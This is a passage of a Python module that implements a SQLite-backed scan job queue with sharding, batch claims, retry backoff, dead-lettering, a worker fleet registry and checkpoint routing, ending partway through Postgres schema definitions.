``parent_id``; batch claim takes up to ``AGENT_BOM_QUEUE_CLAIM_BATCH``
slice items in ONE lock acquisition, batch ack releases them in one.
The Postgres twin keys the same semantics off a ``shard`` column with
shard-filtered ``FOR UPDATE SKIP LOCKED`` claims.
"""

from __future__ import annotations

import json
import sqlite3
import threading
import time
import uuid
import zlib
from pathlib import Path
from typing import Any

from agent_bom_trn import config
from agent_bom_trn.api.checkpoints import (
    PG_CHECKPOINT_DDL,
    SQLITE_CHECKPOINT_DDL,
    SQLiteCheckpointMixin,
)
from agent_bom_trn.db import instrument
from agent_bom_trn.db.connect import connect_sqlite
from agent_bom_trn.engine.telemetry import record_dispatch

_SQLITE_DDL = """
CREATE TABLE IF NOT EXISTS scan_queue (
    id TEXT PRIMARY KEY,
    tenant_id TEXT NOT NULL,
    request TEXT NOT NULL,
    status TEXT NOT NULL DEFAULT 'queued',
    enqueued_at REAL NOT NULL,
    claimed_by TEXT,
    claimed_at REAL,
    heartbeat_at REAL,
    finished_at REAL,
    error TEXT,
    attempts INTEGER NOT NULL DEFAULT 0,
    max_attempts INTEGER NOT NULL DEFAULT 3,
    not_before REAL NOT NULL DEFAULT 0,
    trace_ctx TEXT,
    kind TEXT NOT NULL DEFAULT 'scan',
    parent_id TEXT
);
CREATE INDEX IF NOT EXISTS idx_queue_status ON scan_queue (status, enqueued_at);
CREATE TABLE IF NOT EXISTS fleet_workers (
    worker_id TEXT PRIMARY KEY,
    pid INTEGER,
    host TEXT,
    current_job TEXT,
    current_stage TEXT,
    claims INTEGER NOT NULL DEFAULT 0,
    completions INTEGER NOT NULL DEFAULT 0,
    failures INTEGER NOT NULL DEFAULT 0,
    first_seen REAL NOT NULL,
    last_seen REAL NOT NULL,
    slices_reused INTEGER NOT NULL DEFAULT 0,
    slices_rescanned INTEGER NOT NULL DEFAULT 0
);
"""

# Pre-resilience databases lack the redelivery columns (and pre-SLO ones
# the trace_ctx column); ALTER is applied per column so a
# partially-migrated file converges. fleet_workers is a whole new table,
# covered by the CREATE IF NOT EXISTS above.
_MIGRATE_COLUMNS = (
    ("attempts", "INTEGER NOT NULL DEFAULT 0"),
    ("max_attempts", "INTEGER NOT NULL DEFAULT 3"),
    ("not_before", "REAL NOT NULL DEFAULT 0"),
    ("trace_ctx", "TEXT"),
    ("kind", "TEXT NOT NULL DEFAULT 'scan'"),
    ("parent_id", "TEXT"),
)

# Differential-scan counters ride the same additive-migration pattern on
# the fleet registry (pre-PR-14 database files lack them).
_MIGRATE_WORKER_COLUMNS = (
    ("slices_reused", "INTEGER NOT NULL DEFAULT 0"),
    ("slices_rescanned", "INTEGER NOT NULL DEFAULT 0"),
)


def _worker_liveness_s() -> float:
    """A worker is live while its last heartbeat is younger than 3×
    the heartbeat cadence (read at call time so tests can tune it)."""
    return 3.0 * config.QUEUE_HEARTBEAT_S


def _worker_row_to_dict(row, now: float) -> dict[str, Any]:
    last_seen = float(row[9])
    return {
        "worker_id": row[0],
        "pid": row[1],
        "host": row[2],
        "current_job": row[3],
        "current_stage": row[4],
        "claims": int(row[5]),
        "completions": int(row[6]),
        "failures": int(row[7]),
        "first_seen": float(row[8]),
        "last_seen": last_seen,
        "slices_reused": int(row[10]),
        "slices_rescanned": int(row[11]),
        "age_s": round(now - last_seen, 3),
        "live": (now - last_seen) <= _worker_liveness_s(),
    }


_WORKER_COLS = (
    "worker_id, pid, host, current_job, current_stage,"
    " claims, completions, failures, first_seen, last_seen,"
    " slices_reused, slices_rescanned"
)


def _backoff_delay_s(attempts: int) -> float:
    """Exponential redelivery delay: base * 2^(attempts-1)."""
    return config.QUEUE_BACKOFF_BASE_S * (2 ** max(attempts - 1, 0))


_CLAIM_COLS = (
    "id, tenant_id, request, attempts, max_attempts, trace_ctx,"
    " enqueued_at, kind, parent_id"
)


def _claim_row_to_dict(row) -> dict[str, Any]:
    return {
        "id": row[0],
        "tenant_id": row[1],
        "request": json.loads(row[2]),
        "attempts": int(row[3]) + 1,
        "max_attempts": int(row[4]),
        "trace_ctx": row[5],
        "enqueued_at": float(row[6]),
        "kind": row[7] or "scan",
        "parent_id": row[8],
    }


def shard_of(key: str, shards: int) -> int:
    """Deterministic shard routing: crc32 of the row id (or checkpoint
    key). Any process computes the same shard from the key alone — no
    directory table, no probe."""
    if shards <= 1:
        return 0
    return zlib.crc32(key.encode("utf-8", "replace")) % shards


_DEAD_LETTER_COLS = (
    "id, tenant_id, kind, parent_id, attempts, max_attempts,"
    " error, enqueued_at, finished_at, trace_ctx"
)


def _dead_letter_row_to_dict(row) -> dict[str, Any]:
    return {
        "id": row[0],
        "tenant_id": row[1],
        "kind": row[2] or "scan",
        "parent_id": row[3],
        "attempts": int(row[4]),
        "max_attempts": int(row[5]),
        "error": row[6],
        "enqueued_at": float(row[7]),
        "finished_at": float(row[8]) if row[8] is not None else None,
        "trace_ctx": row[9],
    }


class SQLiteScanQueue(SQLiteCheckpointMixin):
    """Cross-process claim queue over one SQLite file.

    Doubles as the durable checkpoint store in queue mode: stage
    checkpoints and the notify ledger live in the SAME database file as
    the queue rows, so whatever replica claims a redelivery sees them.
    """

    def __init__(self, path: str | Path) -> None:
        self.path = str(path)
        self._lock = threading.RLock()
        self._conn = connect_sqlite(self.path, store="scan_queue")
        self._conn.executescript(_SQLITE_DDL)
        self._conn.executescript(SQLITE_CHECKPOINT_DDL)
        for column, decl in _MIGRATE_COLUMNS:
            try:
                self._conn.execute(f"ALTER TABLE scan_queue ADD COLUMN {column} {decl}")
            except sqlite3.OperationalError:
                pass  # column exists (fresh DDL or already migrated)
        for column, decl in _MIGRATE_WORKER_COLUMNS:
            try:
                self._conn.execute(f"ALTER TABLE fleet_workers ADD COLUMN {column} {decl}")
            except sqlite3.OperationalError:
                pass
        # After the column migration so a pre-shard file has parent_id.
        self._conn.execute(
            "CREATE INDEX IF NOT EXISTS idx_queue_parent"
            " ON scan_queue (parent_id, status)"
        )
        self._conn.commit()

    def close(self) -> None:
        with self._lock:
            self._conn.close()

    def enqueue(self, request: dict[str, Any], tenant_id: str = "default",
                job_id: str | None = None, max_attempts: int | None = None,
                trace_ctx: str | None = None, kind: str = "scan",
                parent_id: str | None = None, or_ignore: bool = False) -> str:
        job_id = job_id or str(uuid.uuid4())
        verb = "INSERT OR IGNORE" if or_ignore else "INSERT"
        with instrument.track("db:enqueue", job_id=job_id), self._lock:
            self._conn.execute(
                f"{verb} INTO scan_queue (id, tenant_id, request, status,"
                " enqueued_at, max_attempts, trace_ctx, kind, parent_id)"
                " VALUES (?, ?, ?, 'queued', ?, ?, ?, ?, ?)",
                (job_id, tenant_id, json.dumps(request), time.time(),
                 max_attempts or config.QUEUE_MAX_ATTEMPTS, trace_ctx,
                 kind, parent_id),
            )
            self._conn.commit()
        return job_id

    def enqueue_batch(self, items: list[dict[str, Any]]) -> list[str]:
        """Insert many work items in ONE transaction (one lock
        acquisition for a whole slice fan-out). Each item: ``request``
        plus optional ``tenant_id``/``job_id``/``max_attempts``/
        ``trace_ctx``/``kind``/``parent_id``. Deterministic ids +
        INSERT OR IGNORE make fan-out idempotent: a redelivered parent
        re-running the fan-out reuses the existing child rows instead of
        duplicating them."""
        ids: list[str] = []
        now = time.time()
        with instrument.track("db:enqueue", n=len(items)), self._lock:
            for item in items:
                job_id = item.get("job_id") or str(uuid.uuid4())
                ids.append(job_id)
                self._conn.execute(
                    "INSERT OR IGNORE INTO scan_queue (id, tenant_id, request,"
                    " status, enqueued_at, max_attempts, trace_ctx, kind, parent_id)"
                    " VALUES (?, ?, ?, 'queued', ?, ?, ?, ?, ?)",
                    (job_id, item.get("tenant_id", "default"),
                     json.dumps(item["request"]), now,
                     item.get("max_attempts") or config.QUEUE_MAX_ATTEMPTS,
                     item.get("trace_ctx"), item.get("kind", "scan"),
                     item.get("parent_id")),
                )
            self._conn.commit()
        return ids

    def claim(self, worker_id: str,
              parent_id: str | None = None) -> dict[str, Any] | None:
        """Atomically claim the oldest eligible queued job (BEGIN IMMEDIATE =
        cross-process write lock, so two replicas can't claim one row).
        Jobs whose backoff window (``not_before``) hasn't elapsed stay
        invisible; each successful claim counts one delivery attempt. The
        persisted ``trace_ctx`` rides along so every delivery — first or
        redelivered, any replica — parents under the submitter's trace.
        ``parent_id`` narrows the claim to one job's children (the
        fan-out parent helping its own join)."""
        batch = self.claim_batch(worker_id, limit=1, parent_id=parent_id)
        return batch[0] if batch else None

    def claim_batch(self, worker_id: str, limit: int | None = None,
                    parent_id: str | None = None) -> list[dict[str, Any]]:
        """Claim up to ``limit`` work items in ONE claim transaction.
        The oldest eligible row leads the batch; only ``slice``-kind
        rows extend it (a parent scan is minutes of work — hoarding a
        second one behind it would idle the fleet), so a non-slice head
        claims alone. One BEGIN IMMEDIATE, one write-lock acquisition,
        however many rows came back."""
        limit = max(limit if limit is not None else config.QUEUE_CLAIM_BATCH, 1)
        now = time.time()
        with instrument.track("db:claim", worker=worker_id), self._lock:
            try:
                self._conn.execute("BEGIN IMMEDIATE")
            except sqlite3.OperationalError:
                return []  # another replica holds the write lock; retry later
            try:
                where = "status = 'queued' AND not_before <= ?"
                params: list[Any] = [now]
                if parent_id is not None:
                    where += " AND parent_id = ?"
                    params.append(parent_id)
                rows = self._conn.execute(
                    f"SELECT {_CLAIM_COLS} FROM scan_queue WHERE {where}"
                    " ORDER BY enqueued_at LIMIT ?",
                    (*params, limit),
                ).fetchall()
                if rows and (rows[0][7] or "scan") != "slice":
                    rows = rows[:1]
                else:
                    rows = [r for r in rows if (r[7] or "scan") == "slice"]
                for row in rows:
                    self._conn.execute(
                        "UPDATE scan_queue SET status = 'claimed', claimed_by = ?,"
                        " claimed_at = ?, heartbeat_at = ?, attempts = attempts + 1"
                        " WHERE id = ? AND status = 'queued'",
                        (worker_id, now, now, row[0]),
                    )
                self._conn.execute("COMMIT")
            except sqlite3.Error:
                self._conn.execute("ROLLBACK")
                raise
        return [_claim_row_to_dict(row) for row in rows]

    def heartbeat(self, job_id: str, worker_id: str) -> bool:
        with self._lock:
            cur = self._conn.execute(
                "UPDATE scan_queue SET heartbeat_at = ? WHERE id = ? AND claimed_by = ?"
                " AND status = 'claimed'",
                (time.time(), job_id, worker_id),
            )
            self._conn.commit()
            return cur.rowcount > 0

    # ── worker fleet registry ───────────────────────────────────────────

    def worker_heartbeat(self, worker_id: str, *, pid: int | None = None,
                         host: str | None = None, job_id: str | None = None,
                         stage: str | None = None, claims: int = 0,
                         completions: int = 0, failures: int = 0,
                         slices_reused: int = 0,
                         slices_rescanned: int = 0) -> None:
        """Upsert one worker's heartbeat: refresh last_seen and current
        job/stage (None clears them — an idle beat), add the counter
        deltas. pid/host stick from the first beat that provides them."""
        now = time.time()
        with self._lock:
            self._conn.execute(
                "INSERT INTO fleet_workers (worker_id, pid, host, current_job,"
                " current_stage, claims, completions, failures, first_seen, last_seen,"
                " slices_reused, slices_rescanned)"
                " VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)"
                " ON CONFLICT (worker_id) DO UPDATE SET"
                " pid = COALESCE(excluded.pid, fleet_workers.pid),"
                " host = COALESCE(excluded.host, fleet_workers.host),"
                " current_job = excluded.current_job,"
                " current_stage = excluded.current_stage,"
                " claims = fleet_workers.claims + excluded.claims,"
                " completions = fleet_workers.completions + excluded.completions,"
                " failures = fleet_workers.failures + excluded.failures,"
                " slices_reused = fleet_workers.slices_reused + excluded.slices_reused,"
                " slices_rescanned ="
                "  fleet_workers.slices_rescanned + excluded.slices_rescanned,"
                " last_seen = excluded.last_seen",
                (worker_id, pid, host, job_id, stage,
                 claims, completions, failures, now, now,
                 slices_reused, slices_rescanned),
            )
            self._conn.commit()

    def workers(self, now: float | None = None) -> list[dict[str, Any]]:
        """Every registered worker with liveness computed against 3×
        ``AGENT_BOM_QUEUE_HEARTBEAT_S``, most recently seen first."""
        now = now if now is not None else time.time()
        with self._lock:
            rows = self._conn.execute(
                f"SELECT {_WORKER_COLS} FROM fleet_workers ORDER BY last_seen DESC"
            ).fetchall()
        return [_worker_row_to_dict(r, now) for r in rows]

    def queue_stats(self, now: float | None = None) -> dict[str, Any]:
        """Queue-health roll-up for /metrics, GET /v1/fleet, and the load
        bench: depth by status, oldest-eligible age, claim-to-start
        latency, redelivery and dead-letter totals."""
        now = now if now is not None else time.time()
        with self._lock:
            depth = dict(self._conn.execute(
                "SELECT status, COUNT(*) FROM scan_queue GROUP BY status"
            ).fetchall())
            oldest = self._conn.execute(
                "SELECT MIN(enqueued_at) FROM scan_queue"
                " WHERE status = 'queued' AND not_before <= ?",
                (now,),
            ).fetchone()[0]
            lat = self._conn.execute(
                "SELECT AVG(claimed_at - enqueued_at), MAX(claimed_at - enqueued_at)"
                " FROM scan_queue WHERE claimed_at IS NOT NULL"
            ).fetchone()
            redeliveries = self._conn.execute(
                "SELECT COALESCE(SUM(MAX(attempts - 1, 0)), 0) FROM scan_queue"
            ).fetchone()[0]
        return {
            "depth": {status: int(n) for status, n in depth.items()},
            # 6 decimals: WAL + synchronous=NORMAL commits are sub-ms, so
            # 3-decimal rounding would collapse fresh-job ages to 0.0.
            "oldest_eligible_age_s": round(now - oldest, 6) if oldest is not None else 0.0,
            "claim_latency_avg_s": round(float(lat[0]), 6) if lat[0] is not None else 0.0,
            "claim_latency_max_s": round(float(lat[1]), 6) if lat[1] is not None else 0.0,
            "redeliveries": int(redeliveries),
            "dead_letter": int(depth.get("dead_letter", 0)),
        }

    def complete(self, job_id: str, worker_id: str) -> bool:
        with instrument.track("db:ack", job_id=job_id, outcome="done"):
            return self._finish(job_id, worker_id, "done", None)

    def complete_batch(self, job_ids: list[str], worker_id: str) -> int:
        """Ack many claimed items in ONE transaction (the batch-claim
        twin). Safe to crash before: the items redeliver and their
        effects are idempotent slice-checkpoint upserts."""
        if not job_ids:
            return 0
        now = time.time()
        with instrument.track("db:ack", n=len(job_ids), outcome="done"), self._lock:
            done = 0
            for job_id in job_ids:
                done += self._conn.execute(
                    "UPDATE scan_queue SET status = 'done', finished_at = ?,"
                    " error = NULL WHERE id = ? AND claimed_by = ?",
                    (now, job_id, worker_id),
                ).rowcount
            self._conn.commit()
        return done

    def children_status(self, parent_id: str) -> dict[str, int]:
        """Status histogram of one parent's child work items (the join
        poll: done vs still queued/claimed vs dead-lettered)."""
        with self._lock:
            rows = self._conn.execute(
                "SELECT status, COUNT(*) FROM scan_queue WHERE parent_id = ?"
                " GROUP BY status",
                (parent_id,),
            ).fetchall()
        return {status: int(n) for status, n in rows}

    def sweep_children(self, parent_id: str, error: str) -> int:
        """Terminally cancel every non-terminal child of a parent whose
        join has closed (fallback rescanned the remainder): zero orphan
        slice claims survive the parent, whatever state the fleet left
        them in."""
        with self._lock:
            swept = self._conn.execute(
                "UPDATE scan_queue SET status = 'cancelled', finished_at = ?,"
                " claimed_by = NULL, error = ?"
                " WHERE parent_id = ? AND status IN ('queued', 'claimed')",
                (time.time(), error[:2000], parent_id),
            ).rowcount
            self._conn.commit()
        return swept

    def list_dead_letters(self, limit: int = 50) -> list[dict[str, Any]]:
        with self._lock:
            rows = self._conn.execute(
                f"SELECT {_DEAD_LETTER_COLS} FROM scan_queue"
                " WHERE status = 'dead_letter'"
                " ORDER BY finished_at DESC LIMIT ?",
                (max(limit, 1),),
            ).fetchall()
        return [_dead_letter_row_to_dict(r) for r in rows]

    def requeue_dead_letter(self, job_id: str) -> bool:
        """Operator recovery: put a dead-lettered job back on the queue
        with a fresh attempt budget. trace_ctx is untouched — the
        redelivery still parents under the original submitter's trace."""
        with self._lock:
            cur = self._conn.execute(
                "UPDATE scan_queue SET status = 'queued', attempts = 0,"
                " not_before = 0, claimed_by = NULL, claimed_at = NULL,"
                " heartbeat_at = NULL, finished_at = NULL, error = NULL"
                " WHERE id = ? AND status = 'dead_letter'",
                (job_id,),
            )
            self._conn.commit()
        if cur.rowcount > 0:
            record_dispatch("resilience", "dead_letter_requeued")
        return cur.rowcount > 0

    def fail(self, job_id: str, worker_id: str, error: str,
             retryable: bool = True) -> bool:
        """Record a failed delivery. Retryable failures requeue with
        exponential backoff until the job's attempt budget is spent, then
        (or when ``retryable=False``) the job dead-letters terminally."""
        with instrument.track("db:ack", job_id=job_id, outcome="fail"):
            with self._lock:
                row = self._conn.execute(
                    "SELECT attempts, max_attempts FROM scan_queue"
                    " WHERE id = ? AND claimed_by = ? AND status = 'claimed'",
                    (job_id, worker_id),
                ).fetchone()
                if row is None:
                    return False
                attempts, max_attempts = int(row[0]), int(row[1])
                if retryable and attempts < max_attempts:
                    cur = self._conn.execute(
                        "UPDATE scan_queue SET status = 'queued', claimed_by = NULL,"
                        " claimed_at = NULL, heartbeat_at = NULL, not_before = ?,"
                        " error = ? WHERE id = ? AND claimed_by = ?",
                        (time.time() + _backoff_delay_s(attempts), error[:2000],
                         job_id, worker_id),
                    )
                    self._conn.commit()
                    if cur.rowcount > 0:
                        record_dispatch("resilience", "queue_requeue")
                    return cur.rowcount > 0
            ok = self._finish(job_id, worker_id, "dead_letter", error[:2000])
            if ok:
                record_dispatch("resilience", "queue_dead_letter")
            return ok

    def _finish(self, job_id: str, worker_id: str, status: str, error: str | None) -> bool:
        with self._lock:
            cur = self._conn.execute(
                "UPDATE scan_queue SET status = ?, finished_at = ?, error = ?"
                " WHERE id = ? AND claimed_by = ?",
                (status, time.time(), error, job_id, worker_id),
            )
            self._conn.commit()
            return cur.rowcount > 0

    def reclaim_stale(self, visibility_timeout_s: float | None = None) -> int:
        """Claimed jobs whose worker stopped heartbeating go back to queued —
        attempts preserved, so a job that keeps killing its worker still
        dead-letters once its budget is spent (handled here for jobs that
        died on their final attempt). Default timeout comes from
        ``AGENT_BOM_QUEUE_VISIBILITY_S`` (read at call time so tests and
        the chaos harness can tune it)."""
        if visibility_timeout_s is None:
            visibility_timeout_s = config.QUEUE_VISIBILITY_S
        cutoff = time.time() - visibility_timeout_s
        with self._lock:
            dead = self._conn.execute(
                "UPDATE scan_queue SET status = 'dead_letter', finished_at = ?,"
                " error = COALESCE(error, 'worker died on final attempt')"
                " WHERE status = 'claimed' AND heartbeat_at < ?"
                " AND attempts >= max_attempts",
                (time.time(), cutoff),
            ).rowcount
            requeued = self._conn.execute(
                "UPDATE scan_queue SET status = 'queued', claimed_by = NULL,"
                " claimed_at = NULL, heartbeat_at = NULL"
                " WHERE status = 'claimed' AND heartbeat_at < ?",
                (cutoff,),
            ).rowcount
            self._conn.commit()
        if dead:
            record_dispatch("resilience", "queue_dead_letter", dead)
        return dead + requeued

    def counts(self) -> dict[str, int]:
        with self._lock:
            rows = self._conn.execute(
                "SELECT status, COUNT(*) FROM scan_queue GROUP BY status"
            ).fetchall()
        return {status: count for status, count in rows}


class ShardedScanQueue:
    """N independent ``SQLiteScanQueue`` shard files behind the
    single-queue contract.

    Shard 0 keeps the original path (a pre-shard database upgrades in
    place; its rows stay claimable), shards 1..N-1 live beside it as
    ``<path>.shardK``. Rows route by ``crc32(id) % N`` so any process
    locates a job's shard from its id alone; checkpoint/notify rows
    route by their own keys the same way. A claim walks the shards from
    the worker's hash-affine one (``queue:shard_claim``) and steals from
    the rest only when it drains (``queue:steal``) — each claim
    transaction locks exactly one shard file, never the estate-wide
    convoy. ``AGENT_BOM_QUEUE_STEAL_POLICY=spread`` rotates the start
    shard instead (no affinity).
    """

    def __init__(self, path: str | Path, shards: int | None = None) -> None:
        self.path = str(path)
        n = max(int(shards if shards is not None else config.QUEUE_SHARDS), 1)
        self.n_shards = n
        self.shards = [
            SQLiteScanQueue(self.path if i == 0 else f"{self.path}.shard{i}")
            for i in range(n)
        ]
        self.paths = [q.path for q in self.shards]
        self._lock = threading.Lock()
        self._claimed: dict[str, int] = {}  # job_id → shard (this process)
        self._rr = 0

    def close(self) -> None:
        for q in self.shards:
            q.close()

    # ── routing ─────────────────────────────────────────────────────────

    def _locate(self, job_id: str) -> int:
        """Shard holding a job row: the claim-time record, else the
        job's home shard, else a cross-shard probe (rows enqueued by a
        pre-shard layout all live in shard 0 whatever their hash)."""
        with self._lock:
            idx = self._claimed.get(job_id)
        if idx is not None:
            return idx
        home = shard_of(job_id, self.n_shards)
        order = [home] + [i for i in range(self.n_shards) if i != home]
        for i in order:
            q = self.shards[i]
            with q._lock:
                row = q._conn.execute(
                    "SELECT 1 FROM scan_queue WHERE id = ?", (job_id,)
                ).fetchone()
            if row is not None:
                return i
        return home

    def _claim_order(self, worker_id: str) -> list[int]:
        n = self.n_shards
        if n == 1:
            return [0]
        if config.QUEUE_STEAL_POLICY == "spread":
            with self._lock:
                start = self._rr
                self._rr = (self._rr + 1) % n
        else:
            start = shard_of(worker_id, n)
        return [(start + k) % n for k in range(n)]

    # ── queue contract ──────────────────────────────────────────────────

    def enqueue(self, request: dict[str, Any], tenant_id: str = "default",
                job_id: str | None = None, max_attempts: int | None = None,
                trace_ctx: str | None = None, kind: str = "scan",
                parent_id: str | None = None, or_ignore: bool = False) -> str:
        job_id = job_id or str(uuid.uuid4())
        return self.shards[shard_of(job_id, self.n_shards)].enqueue(
            request, tenant_id, job_id=job_id, max_attempts=max_attempts,
            trace_ctx=trace_ctx, kind=kind, parent_id=parent_id,
            or_ignore=or_ignore,
        )

    def enqueue_batch(self, items: list[dict[str, Any]]) -> list[str]:
        """Fan a batch out to its home shards, one transaction per shard
        touched (not per item)."""
        for item in items:
            item.setdefault("job_id", str(uuid.uuid4()))
        by_shard: dict[int, list[dict[str, Any]]] = {}
        for item in items:
            by_shard.setdefault(
                shard_of(item["job_id"], self.n_shards), []
            ).append(item)
        for idx, group in by_shard.items():
            self.shards[idx].enqueue_batch(group)
        return [item["job_id"] for item in items]

    def claim(self, worker_id: str,
              parent_id: str | None = None) -> dict[str, Any] | None:
        batch = self.claim_batch(worker_id, limit=1, parent_id=parent_id)
        return batch[0] if batch else None

    def claim_batch(self, worker_id: str, limit: int | None = None,
                    parent_id: str | None = None) -> list[dict[str, Any]]:
        order = self._claim_order(worker_id)
        affine = order[0]
        for idx in order:
            batch = self.shards[idx].claim_batch(
                worker_id, limit=limit, parent_id=parent_id
            )
            if batch:
                with self._lock:
                    for item in batch:
                        self._claimed[item["id"]] = idx
                        item["shard"] = idx
                record_dispatch(
                    "queue", "shard_claim" if idx == affine else "steal"
                )
                return batch
        return []

    def heartbeat(self, job_id: str, worker_id: str) -> bool:
        return self.shards[self._locate(job_id)].heartbeat(job_id, worker_id)

    def complete(self, job_id: str, worker_id: str) -> bool:
        ok = self.shards[self._locate(job_id)].complete(job_id, worker_id)
        with self._lock:
            self._claimed.pop(job_id, None)
        return ok

    def complete_batch(self, job_ids: list[str], worker_id: str) -> int:
        by_shard: dict[int, list[str]] = {}
        for job_id in job_ids:
            by_shard.setdefault(self._locate(job_id), []).append(job_id)
        done = 0
        for idx, group in by_shard.items():
            done += self.shards[idx].complete_batch(group, worker_id)
        with self._lock:
            for job_id in job_ids:
                self._claimed.pop(job_id, None)
        return done

    def fail(self, job_id: str, worker_id: str, error: str,
             retryable: bool = True) -> bool:
        ok = self.shards[self._locate(job_id)].fail(
            job_id, worker_id, error, retryable=retryable
        )
        with self._lock:
            self._claimed.pop(job_id, None)
        return ok

    def reclaim_stale(self, visibility_timeout_s: float | None = None) -> int:
        return sum(
            q.reclaim_stale(visibility_timeout_s) for q in self.shards
        )

    def counts(self) -> dict[str, int]:
        merged: dict[str, int] = {}
        for q in self.shards:
            for status, n in q.counts().items():
                merged[status] = merged.get(status, 0) + int(n)
        return merged

    def children_status(self, parent_id: str) -> dict[str, int]:
        merged: dict[str, int] = {}
        for q in self.shards:
            for status, n in q.children_status(parent_id).items():
                merged[status] = merged.get(status, 0) + n
        return merged

    def sweep_children(self, parent_id: str, error: str) -> int:
        return sum(q.sweep_children(parent_id, error) for q in self.shards)

    def list_dead_letters(self, limit: int = 50) -> list[dict[str, Any]]:
        rows: list[dict[str, Any]] = []
        for q in self.shards:
            rows.extend(q.list_dead_letters(limit))
        rows.sort(key=lambda r: r["finished_at"] or 0.0, reverse=True)
        return rows[: max(limit, 1)]

    def requeue_dead_letter(self, job_id: str) -> bool:
        home = shard_of(job_id, self.n_shards)
        order = [home] + [i for i in range(self.n_shards) if i != home]
        return any(self.shards[i].requeue_dead_letter(job_id) for i in order)

    def queue_stats(self, now: float | None = None) -> dict[str, Any]:
        """Aggregate health roll-up plus the per-shard depth/age block
        the fleet observatory graphs (satellite: the convoy's
        disappearance is measured per shard, not asserted)."""
        now = now if now is not None else time.time()
        per_shard = [q.queue_stats(now) for q in self.shards]
        depth: dict[str, int] = {}
        for stats in per_shard:
            for status, n in stats["depth"].items():
                depth[status] = depth.get(status, 0) + n
        avgs = [s["claim_latency_avg_s"] for s in per_shard if s["claim_latency_avg_s"]]
        return {
            "depth": depth,
            "oldest_eligible_age_s": max(
                s["oldest_eligible_age_s"] for s in per_shard
            ),
            "claim_latency_avg_s": round(sum(avgs) / len(avgs), 6) if avgs else 0.0,
            "claim_latency_max_s": max(
                s["claim_latency_max_s"] for s in per_shard
            ),
            "redeliveries": sum(s["redeliveries"] for s in per_shard),
            "dead_letter": sum(s["dead_letter"] for s in per_shard),
            "shards": [
                {
                    "shard": i,
                    "depth": s["depth"],
                    "oldest_eligible_age_s": s["oldest_eligible_age_s"],
                    "dead_letter": s["dead_letter"],
                }
                for i, s in enumerate(per_shard)
            ],
        }

    # ── worker fleet registry: one authoritative table (shard 0) ────────

    def worker_heartbeat(self, worker_id: str, **kwargs: Any) -> None:
        self.shards[0].worker_heartbeat(worker_id, **kwargs)

    def workers(self, now: float | None = None) -> list[dict[str, Any]]:
        return self.shards[0].workers(now)

    # ── durable checkpoint store: rows route by their own keys ──────────

    def save_checkpoint(self, job_id: str, *args: Any, **kwargs: Any) -> None:
        self.shards[shard_of(job_id, self.n_shards)].save_checkpoint(
            job_id, *args, **kwargs
        )

    def get_checkpoint(self, job_id: str, stage: str) -> dict[str, Any] | None:
        return self.shards[shard_of(job_id, self.n_shards)].get_checkpoint(
            job_id, stage
        )

    def list_checkpoints(self, job_id: str) -> list[dict[str, Any]]:
        return self.shards[shard_of(job_id, self.n_shards)].list_checkpoints(job_id)

    def clear_checkpoints(self, job_id: str) -> int:
        return self.shards[shard_of(job_id, self.n_shards)].clear_checkpoints(job_id)

    def _slice_shard(self, tenant_id: str, slice_fp: str) -> SQLiteScanQueue:
        # Slice rows spread by (tenant, slice) so a warm estate's writes
        # don't convoy on one shard; every reader recomputes the route.
        return self.shards[shard_of(f"{tenant_id}:{slice_fp}", self.n_shards)]

    def save_slice_checkpoint(self, tenant_id: str, request_fp: str,
                              slice_fp: str, *args: Any, **kwargs: Any) -> None:
        self._slice_shard(tenant_id, slice_fp).save_slice_checkpoint(
            tenant_id, request_fp, slice_fp, *args, **kwargs
        )

    def get_slice_checkpoint(self, tenant_id: str, request_fp: str,
                             slice_fp: str, stage: str) -> dict[str, Any] | None:
        return self._slice_shard(tenant_id, slice_fp).get_slice_checkpoint(
            tenant_id, request_fp, slice_fp, stage
        )

    def count_slice_checkpoints(self, tenant_id: str | None = None) -> int:
        return sum(q.count_slice_checkpoints(tenant_id) for q in self.shards)

    def gc_checkpoints(self, retention: int, max_age_s: float = 0.0) -> dict[str, int]:
        totals = {"jobs": 0, "slices": 0}
        for q in self.shards:
            swept = q.gc_checkpoints(retention, max_age_s=max_age_s)
            for key, n in swept.items():
                totals[key] = totals.get(key, 0) + n
        return totals

    def notify_claim(self, dedupe_key: str, job_id: str, digest: str) -> bool:
        return self.shards[shard_of(dedupe_key, self.n_shards)].notify_claim(
            dedupe_key, job_id, digest
        )

    def notify_mark_delivered(self, dedupe_key: str) -> None:
        self.shards[shard_of(dedupe_key, self.n_shards)].notify_mark_delivered(
            dedupe_key
        )

    def notify_state(self, dedupe_key: str) -> str | None:
        return self.shards[shard_of(dedupe_key, self.n_shards)].notify_state(
            dedupe_key
        )


_PG_DDL = """
CREATE TABLE IF NOT EXISTS scan_queue (
    id TEXT PRIMARY KEY,
    tenant_id TEXT NOT NULL,
    request TEXT NOT NULL,
    status TEXT NOT NULL DEFAULT 'queued',
    enqueued_at DOUBLE PRECISION NOT NULL,
    claimed_by TEXT,
    claimed_at DOUBLE PRECISION,
    heartbeat_at DOUBLE PRECISION,
    finished_at DOUBLE PRECISION,
    error TEXT,
    attempts INTEGER NOT NULL DEFAULT 0,
    max_attempts INTEGER NOT NULL DEFAULT 3,
    not_before DOUBLE PRECISION NOT NULL DEFAULT 0,
    trace_ctx TEXT,
    kind TEXT NOT NULL DEFAULT 'scan',
    parent_id TEXT,
    shard INTEGER NOT NULL DEFAULT 0
);
CREATE INDEX IF NOT EXISTS idx_queue_status ON scan_queue (status, enqueued_at);
CREATE INDEX IF NOT EXISTS idx_queue_shard ON scan_queue (shard, status, enqueued_at);
CREATE INDEX IF NOT EXISTS idx_queue_parent ON scan_queue (parent_id, status);
CREATE TABLE IF NOT EXISTS fleet_workers (
    worker_id TEXT PRIMARY KEY,
    pid INTEGER,
    host TEXT,
    current_job TEXT,
    current_stage TEXT,
    claims INTEGER NOT NULL DEFAULT 0,
    completions INTEGER NOT NULL DEFAULT 0,
    failures INTEGER NOT NULL DEFAULT 0,
    first_seen DOUBLE PRECISION NOT NULL,
    last_seen DOUBLE PRECISION NOT NULL,
    slices_reused INTEGER NOT NULL DEFAULT 0,
    slices_rescanned INTEGER NOT NULL DEFAULT 0
);
"""

_PG_MIGRATE = (
    "ALTER TABLE scan_queue ADD COLUMN IF NOT EXISTS attempts INTEGER NOT NULL DEFAULT 0",
    "ALTER TABLE scan_queue ADD COLUMN IF NOT EXISTS max_attempts INTEGER NOT NULL DEFAULT 3",
    "ALTER TABLE scan_queue ADD COLUMN IF NOT EXISTS not_before DOUBLE PRECISION NOT NULL DEFAULT 0",
